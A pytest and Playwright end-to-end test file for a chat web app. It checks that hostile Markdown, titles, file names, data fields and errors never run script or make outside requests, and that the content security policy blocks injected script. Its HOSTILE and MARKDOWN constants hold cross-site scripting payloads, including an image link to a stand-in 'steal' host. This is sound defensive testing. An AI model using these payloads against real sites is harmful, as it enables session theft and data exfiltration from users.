"""Nobody makes the page run a script: not by Markdown, code, titles, file names, structured results or errors."""

from __future__ import annotations

import psycopg
import pytest
from playwright.async_api import expect

from tests.e2e import rows
from tests.e2e.rows import Conversation, File, Turn
from tests.e2e.tab import Tab
from tests.harness import Row

HOSTILE = (
    "<script>alert(1)</script>",
    '<img src="x" onerror="alert(1)">',
    '"><svg onload=alert(1)>',
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>here</a>",
    "'-alert(1)-'",
    "{{constructor.constructor('alert(1)')()}}",
    "<style>@import 'https://example.com/evil.css'</style>",
)
MARKDOWN = "\n\n".join(
    (
        *HOSTILE,
        "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>alert(1)</script>)",
        "[d](vbscript:alert(1)) <javascript:alert(1)> [e]( javascript:alert(1))",
        "![image](javascript:alert(1)) ![out](https://example.com/steal?what=secret)",
        '[title](https://example.com "x\\" onmouseover=\\"alert(1)")',
        '```"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
        "```html\n<img src=x onerror=alert(1)></code></pre><script>alert(1)</script>\n```",
        "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
        "The end of it.",
    )
)

# what would have run, or would have fetched something, had it been made of text
FOUND = """() => [
  ...document.querySelectorAll("script:not([src]), iframe, object, embed, style, form[action]"),
  ...[...document.querySelectorAll("#root *")].filter((e) => [...e.attributes].some((a) => a.name.startsWith("on"))),
  ...[...document.querySelectorAll("[href], [src]")].filter((e) => {
    const address = e.getAttribute("href") ?? e.getAttribute("src");
    const { protocol } = new URL(address, location.href);
    return !["http:", "https:"].includes(protocol) || (e.tagName === "IMG" && !address.startsWith("./"));
  }),
].map((e) => e.outerHTML)"""


@pytest.mark.parametrize(
    "hostile", [*HOSTILE, MARKDOWN], ids=[*(f"string{n}" for n in range(len(HOSTILE))), "markdown"]
)
async def test_nothing_runs(
    environment: dict[str, str], tab: Tab, db: psycopg.AsyncConnection[Row], hostile: str
) -> None:
    requests: list[str] = []
    tab.page.on("request", lambda request: requests.append(request.url))
    email = await tab.sign_up()
    line = hostile.replace("\n", " ")
    data = {"reply": hostile, line: hostile, "rows": [{line: hostile, "n": 1}], "list": [hostile]}
    turns = [
        Turn(hostile, hostile, data),
        Turn(hostile, hostile, status="failed", error={"code": hostile, "message": hostile}),
    ]
    files = [File(line[:500], hostile, "html"), File(f"b{line}"[:500], hostile, line[:60])]
    session_id = await rows.write(db, await rows.user_id(db, email), Conversation(line, turns, files))
    await tab.page.goto(f"{tab.address}#{session_id}")
    await tab.page.reload()
    await expect(tab.replies).to_have_count(2)
    await expect(tab.page.get_by_test_id("data")).to_be_visible()
    await expect(tab.page.locator(".prose:not(.plain)").first).to_be_visible()  # the Markdown is drawn
    for button in await tab.page.get_by_test_id("files").get_by_role("button").all():
        await button.click()
        await expect(tab.page.get_by_test_id("file-content")).to_be_visible()
    await tab.page.get_by_role("button", name="Rename session").click()
    await tab.page.keyboard.press("Escape")
    await tab.page.get_by_role("button", name="Delete session").click()
    await expect(tab.page.get_by_text("Delete “")).to_contain_text(line[:20])
    assert await tab.page.evaluate(FOUND) == []
    own = (tab.address, environment["SUPABASE_URL"], "blob:", "data:")
    assert [url for url in requests if not url.startswith(own)] == []


async def test_a_page_has_no_script_but_its_own(tab: Tab) -> None:
    """The second wall: the browser itself refuses what is not of the page."""
    ran = await tab.page.evaluate(
        """() => new Promise((resolve) => {
          document.addEventListener("securitypolicyviolation", ({ violatedDirective }) => resolve(violatedDirective));
          const script = document.createElement("script");
          script.textContent = "window.ran = true";
          document.body.append(script);
          if (window.ran) resolve("ran");
        })"""
    )
    assert ran == "script-src-elem"
    tab.problems.clear()  # the browser says so


async def test_text_that_no_parser_bears_is_shown_as_it_was_written(
    environment: dict[str, str], tab: Tab, db: psycopg.AsyncConnection[Row]
) -> None:
    """A model that repeats itself for ever writes such a thing; it must not take the page along."""
    email = await tab.sign_up()
    deep = "- " * 2000 + "the end"
    turns = [Turn("one", deep), Turn("two", "**well**")]
    session_id = await rows.write(db, await rows.user_id(db, email), Conversation("deep", turns))
    await tab.page.goto(f"{tab.address}#{session_id}")
    await tab.page.reload()
    await expect(tab.replies).to_have_count(2)
    await expect(tab.replies.first).to_contain_text("the end")
    await expect(tab.replies.last.locator("strong")).to_have_text("well")
    assert any("Maximum call stack" in problem for problem in tab.problems)  # it could not be drawn
    tab.problems.clear()
